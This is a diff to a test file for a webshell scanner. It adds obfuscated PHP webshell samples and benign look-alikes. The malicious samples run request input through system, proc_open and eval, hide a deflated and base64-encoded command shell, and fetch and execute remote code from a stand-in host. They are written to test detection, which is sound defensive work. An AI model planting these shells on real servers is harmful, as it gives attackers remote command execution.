@@ -1,11 +1,13 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
+import { deflateRawSync } from 'node:zlib';
 import { createScanner } from './scanner.js';
 
 // Session 34: the techniques of the real webshells the held-out sets H1 to H4 missed at their first scan
 // (bench/redteam/README-corpus-s34.md), written again by us as harmless pages, each with look-alikes an
 // application may hold. Nothing here is copied from a sample.
 const scanner = createScanner({});
+const deflated = (t: string) => deflateRawSync(Buffer.from(t));
 const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
 
 // (the reversed page of the own-decoder form: a line of ours, written backwards)
@@ -29,6 +31,11 @@ const MALICIOUS: [string, string, string][] = [
   ['an ASP.NET page storing an upload under the client\'s name in its own folder', '/inetpub/wwwroot/w.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var here = new System.IO.FileInfo(Request.PhysicalPath).DirectoryName; using (var fs = new System.IO.FileStream(System.IO.Path.Combine(here, System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create)) f.InputStream.CopyTo(fs); Response.Write("saved"); } %>`],
   ['JSP registering a WebSocket endpoint at run time at the path the request names', '/var/lib/tomcat/webapps/ROOT/x.jsp', `<%@ page import="javax.websocket.*,javax.websocket.server.*" %>\n<%! public static class E extends Endpoint { public void onOpen(Session s, EndpointConfig c) { s.addMessageHandler(new MessageHandler.Whole<String>() { public void onMessage(String m) { try { s.getBasicRemote().sendText(m); } catch (Exception e) {} } }); } } %>\n<% ServerContainer c = (ServerContainer) application.getAttribute(ServerContainer.class.getName()); c.addEndpoint(ServerEndpointConfig.Builder.create(E.class, request.getParameter("p")).build()); out.print("ok"); %>`],
   ['an ASP.NET page capturing every packet with a raw socket', '/inetpub/wwwroot/y.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.Bind(new IPEndPoint(IPAddress.Parse(Request["ip"]), 0)); s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); var buf = new byte[65535]; Response.Write(s.Receive(buf)); %>`],
+  ['eval of a double-quoted string whose decoder chain is written in escaped quotes and pieces', '/var/www/html/ee.php', `<?php eval("\\$x=gzin"."flate(base"."64_de"."code(\\"${Buffer.from(deflated('<?php system($_GET["c"]); ?>')).toString('base64')}\\"));"); eval("?>".$x); ?>`],
+  ['a command rewritten in an if branch from its own value, then run', '/var/www/html/ff.php', `<?php\n$cmd = isset($_POST['cmd']) ? $_POST['cmd'] : '';\n$n = strcspn($cmd, ' ');\nif (isset($aliases[substr($cmd, 0, $n)])) $cmd = $aliases[substr($cmd, 0, $n)] . substr($cmd, $n);\n$p = proc_open($cmd, array(1 => array('pipe', 'w')), $io);\necho stream_get_contents($io[1]);\n`],
+  ['PHP 4\'s long request arrays extracted, then a command run', '/var/www/html/gg.php', `<?php\nif (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);\nif (!empty($cmd)) { echo '<pre>'; system($cmd); echo '</pre>'; }\n`],
+  ['names made by pack(\'c*\') kept in $GLOBALS, fetched code made a function and called', '/var/www/html/hh.php', `<?php\n$k = pack('c*', 0x70, 0x61, 99, 107);\n$GLOBALS = array(\n  'c' => $k('c*', 99, 97, 108, 108, 95, 117, 115, 101, 114, 95, 102, 117, 110, 99),\n  'f' => $k('c*', 102, 105, 108, 101, 95, 103, 101, 116, 95, 99, 111, 110, 116, 101, 110, 116, 115),\n  'e' => $k('c*', 99, 114, 101, 97, 116, 101, 95, 102, 117, 110, 99, 116, 105, 111, 110),\n  'u' => 'http://example.invalid/p.txt'\n);\n$GLOBALS['c']($GLOBALS['e'](null, $GLOBALS['f']($GLOBALS['u'])));\n`],
+  ['a callback named by a header\'s piece and a name\'s tail, given request input', '/var/www/html/ii.php', `<?php\n$h = substr($_SERVER['HTTP_REFERER'], -7, -4);\nforward_static_call_array($h . 'ert', array($_REQUEST['z']));\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -47,6 +54,11 @@ const LOOKALIKES: [string, string, string][] = [
   ['an ASP.NET upload stored under a new name in App_Data', '/inetpub/wwwroot/bb.aspx', `<%@ Page Language="C#" %>\n<% if (Request.Files.Count == 1) { var f = Request.Files[0]; var dir = Server.MapPath("~/App_Data/uploads"); f.SaveAs(System.IO.Path.Combine(dir, Guid.NewGuid().ToString("N") + ".bin")); Response.Write(System.IO.Path.GetFileName(f.FileName)); } %>`],
   ['JSP showing whether the WebSocket container is there', '/var/lib/tomcat/webapps/ROOT/cc.jsp', `<%@ page import="javax.websocket.server.ServerContainer" %>\n<% Object c = application.getAttribute(ServerContainer.class.getName()); out.print(c != null ? "websockets on" : "websockets off"); %>`],
   ['an ASP.NET ping page with a raw ICMP socket', '/inetpub/wwwroot/dd.aspx', `<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp); s.ReceiveTimeout = 1000; Response.Write(s.ProtocolType); s.Close(); %>`],
+  ['eval of a double-quoted config line', '/var/www/html/jj.php', `<?php $name = 'site'; eval("\\$config = array('name' => \\"$name\\", 'debug' => false);"); echo $config['name']; ?>`],
+  ['a file name rewritten in an if branch, then given to a command escaped', '/var/www/html/kk.php', `<?php\n$f = $_GET['f'];\nif (strpos($f, '/') === false) $f = '/srv/img/' . basename($f);\nsystem('/usr/bin/identify ' . escapeshellarg($f));\n`],
+  ['an old form handler extracting $HTTP_POST_VARS and printing escaped', '/var/www/html/ll.php', `<?php\nextract($HTTP_POST_VARS);\necho 'Thanks, ' . htmlspecialchars($name) . '. We will write to ' . htmlspecialchars($email) . '.';\n`],
+  ['a PNG signature made by pack(\'C*\')', '/var/www/html/mm.php', `<?php\n$sig = pack('C*', 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A);\nif (substr(file_get_contents($_FILES['f']['tmp_name']), 0, 8) !== $sig) die('not a PNG');\n`],
+  ['a module dispatcher calling the module\'s item handler with the request\'s id', '/var/www/html/nn.php', `<?php\n$module = preg_replace('/[^a-z]/', '', $_GET['m']);\ncall_user_func($module . '_item', $_GET['id']);\n`],
 ];
 
 describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
@@ -56,7 +68,7 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 17));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 22));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -64,5 +76,5 @@ describe('scan: the techniques of held-out sets H1 to H4 (session 34)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 20));
 });
